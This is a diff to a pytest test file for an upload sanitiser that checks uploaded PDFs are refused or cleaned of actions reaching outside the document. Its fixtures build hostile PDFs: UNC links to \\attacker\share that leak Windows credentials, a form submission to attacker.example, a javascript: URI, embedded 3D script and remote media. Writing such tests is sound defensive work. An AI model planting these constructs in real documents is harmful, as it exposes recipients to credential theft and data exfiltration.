@@ -11,10 +11,20 @@ from pypdf import PdfReader
 
 from documents.active_content import active_content_in_bytes
 from documents.models import PieceFile
-from tests.conftest import log_in_with_second_factor
-from tests.documents.conftest import stored_files
-from tests.documents.files import fillable_cerfa_with_javascript, pdf_bytes, pdf_with_active, pdf_with_javascript, upload
-from tests.factories import paris
+from documents.uploads import UploadRejected, inspect_upload
+from tests.documents.files import (
+    PAGE_TREE,
+    _raw_pdf,
+    _stream,
+    fillable_cerfa_with_javascript,
+    pdf_bytes,
+    pdf_with_active,
+    pdf_with_javascript,
+    upload,
+)
+from tests.documents.helpers import stored_files
+from tests.factories import PieceFileFactory, paris
+from tests.portal.helpers import log_in_with_second_factor
 
 pytestmark = pytest.mark.django_db
 
@@ -112,11 +122,57 @@ def test_files_stored_before_keep_their_hash_as_the_one_sent(registration):
 
     from django.apps import apps
 
-    from documents.models import Piece, PieceKind
-
-    piece = Piece.objects.create(registration=registration, piece_kind=PieceKind.objects.get(code="identity"))
-    old = PieceFile.objects.create(piece=piece, file="x.pdf", original_name="x.pdf", content_type="application/pdf", size=1,
-                                   sha256="ab" * 32, sent_sha256="")
+    old = PieceFileFactory(piece__registration=registration, piece__piece_kind__code="identity", sha256="ab" * 32, sent_sha256="")
     import_module("documents.migrations.0008_piecefile_sent_sha256").sent_is_stored(apps, None)
     old.refresh_from_db()
     assert old.sent_sha256 == "ab" * 32
+
+
+# Found by a probe of the upload defences, as an attacker would (issue 13, item 5; the test failed
+# when written): actions that reach outside the document were kept as sent. Acrobat follows them when
+# staff click a link or a button: /GoToR, /ImportData and a file attachment reach a UNC path
+# (\\attacker\share: the staff member's Windows credentials are sent to it); /SubmitForm posts the
+# form to any server; a javascript: URI; a 3D annotation carries its own script (/OnInstantiate);
+# /Rendition and /Movie play media from outside the file.
+
+RECT = b"/Rect [50 50 200 100]"
+
+
+def _pdf_with_annotation(annotation, *more):
+    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE,
+                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>", annotation, *more])
+
+
+def _link(action):
+    return _pdf_with_annotation(b"<< /Type /Annot /Subtype /Link " + RECT + b" /A " + action + b" >>")
+
+
+OUTWARD = {
+    "gotor": (_link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"), b"/GoToR"),
+    "importdata": (_link(b"<< /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >>"), b"/ImportData"),
+    "submitform": (_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>"), b"/SubmitForm"),
+    "javascript-uri": (_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"), b"javascript:"),
+    "file-attachment": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /FileAttachment " + RECT
+                                             + b" /FS << /Type /Filespec /F (\\\\\\\\attacker\\\\share\\\\x.exe) >> >>"), b"attacker"),
+    "3d-script": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /3D " + RECT + b" /3DD 5 0 R /3DA << /A /PO >> >>",
+                                       _stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"), _stream(b"app.alert(1)")),
+                  b"/OnInstantiate"),
+    "rendition": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Screen " + RECT + b" /A << /S /Rendition /OP 0 /R << /S /MR "
+                                       b"/C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://attacker.example/m.mp4) >> >> >> >> >>"),
+                  b"/Rendition"),
+    "thread-remote": (_link(b"<< /S /Thread /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D 0 >>"), b"attacker"),
+    "movie": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Movie " + RECT + b" /Movie << /F (\\\\\\\\attacker\\\\share\\\\m.mov) >> >>"),
+              b"attacker"),
+}
+
+
+@pytest.mark.parametrize("kind", OUTWARD)
+def test_an_action_that_reaches_outside_the_document_is_not_kept(kind):
+    sent, trace = OUTWARD[kind]
+    assert trace in sent
+    try:
+        inspection = inspect_upload(upload("formulaire.pdf", sent))
+    except UploadRejected:
+        return  # refused: nothing reaches staff either
+    stored = inspection.cleaned.read() if inspection.cleaned else sent
+    assert trace not in stored
